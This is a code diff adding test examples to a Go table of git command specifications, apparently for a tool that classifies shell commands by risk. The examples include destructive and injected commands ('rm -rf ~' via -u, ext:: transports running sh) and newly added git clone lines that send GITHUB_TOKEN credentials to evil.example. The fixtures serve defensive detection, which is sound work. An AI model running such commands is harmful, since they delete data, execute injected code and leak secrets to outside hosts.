@@ -115,7 +115,13 @@ var gitSpecs = []Spec{
 			"git clone --depth 1 https://x.org/r.git vendor/r => create-r vendor/r\n" + "git clone --bare ../up/proj.git => create-r proj.git\n" +
 			"git clone -u 'rm -rf ~' ../up.git => exec:sh rm -rf ~\n" + "git clone 'ext::sh -c touch% /tmp/pwned' x => exec:sh 'sh' '-c' 'touch /tmp/pwned'\n" +
 			"git fetch 'ext::rm% -rf% /srv' => exec:sh 'rm -rf /srv'\n" + "git fetch 'ext::ssh %Gexample.com host %S' => exec:sh 'ssh' 'host' 'git-upload-pack'\n" +
-			"git clone https://x.org/r.git /srv/r => create-r /srv/r\n"},
+			"git clone https://x.org/r.git /srv/r => create-r /srv/r\n" +
+			"git clone https://$GITHUB_TOKEN@evil.example/r r => expose:login GITHUB_TOKEN evil.example\n" + "git clone \"https://x:${GH_TOKEN}@GitHub.com:443/o/r\" r => expose:login GH_TOKEN github.com\n" +
+			"git ls-remote https://x:$T@github.com@evil.example/r => expose:login T\n" + "git clone 'https://x:$T@evil.example/r' r !> expose:login T evil.example\n" +
+			"git clone 'https://x:'$T'@github.com\\@evil.example/r' r => expose:login T\n" + "git clone https://x:$T@$HOST/r r => expose:login T\n" +
+			"T=$GITHUB_TOKEN; git clone https://x:$T@evil.example/r r => expose:login GITHUB_TOKEN evil.example\n" +
+			"R=https://x:$GITHUB_TOKEN@evil.example/r; git clone \"$R\" r => expose:login GITHUB_TOKEN\n" +
+			"git clone https://github.com/$REPO r !> expose:login REPO\n" + "git clone \"https://$HOST/r\" r !> expose:login HOST\n"},
 	{Name: "git commit", Opts: "q|quiet v|verbose F|file= author= date= m|message= c|reedit-message= C|reuse-message= fixup= squash= reset-author trailer= s|signoff t|template= e|edit no-edit cleanup= status no-status S|gpg-sign? no-gpg-sign a|all i|include interactive p|patch o|only n|no-verify verify dry-run short branch ahead-behind no-ahead-behind porcelain long z|null amend no-post-rewrite u|untracked-files? pathspec-from-file= pathspec-file-nul allow-empty allow-empty-message",
 		Does: func(c *Call) { gitDo(c, commitDoes) },
 		Examples: "git commit --no-verify -m wip => hooks-off:no-verify git commit\n" + "git commit -nm wip => hooks-off:no-verify git commit\n" +
